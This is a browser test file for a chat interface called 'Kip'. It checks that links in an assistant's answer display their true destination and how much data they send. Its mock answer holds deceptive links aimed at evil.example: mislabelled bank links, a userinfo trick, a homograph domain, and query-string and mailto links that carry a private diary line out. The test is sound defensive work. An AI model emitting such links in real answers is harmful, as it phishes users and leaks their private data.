import { expect, getConversation, test } from './fixtures.ts'

const diary = 'I told nobody about the letter that came in spring'
const answer = `You can read more at [your bank](https://evil.example/account) or at [https://bank.example](https://bank.example@evil.example/).

- [The whole story](https://evil.example/?q=${encodeURIComponent(diary)})
- [The shop](https://аpple.example/) and <https://ok.example/guide>
- [Write to Ada][ada]

[ada]: mailto:ada@evil.example?body=${encodeURIComponent(diary)}

The end.`

test.use({ providerBehavior: { answer: () => answer } })

test('links in an answer show their target, and copying gives the source @long', async ({ page }) => {
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write'])
  await page.goto('/kip')
  await page.getByLabel('Write to Kip').fill('What do you know?')
  await page.keyboard.press('Enter')
  const message = getConversation(page).getByRole('listitem').filter({ hasText: 'The end.' }).last()
  await expect(page.getByRole('button', { name: 'Send' })).toBeVisible()
  await expect(message.getByRole('link')).toHaveCount(6)
  for (const linkText of [
    'your bank(evil.example)',
    'https://bank.example(leads to evil.example)',
    'The whole story(evil.example, sends 52 characters)',
    'The shop(xn--pple-43d.example)',
    'Write to Ada(ada@evil.example, sends 55 characters)',
  ])
    await expect(message).toContainText(linkText)
  await expect(message, 'a bare URL already shows its target').toContainText('https://ok.example/guide\n')
  await message.hover()
  await message.getByRole('button', { name: 'Copy message' }).click()
  await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toBe(answer)
})
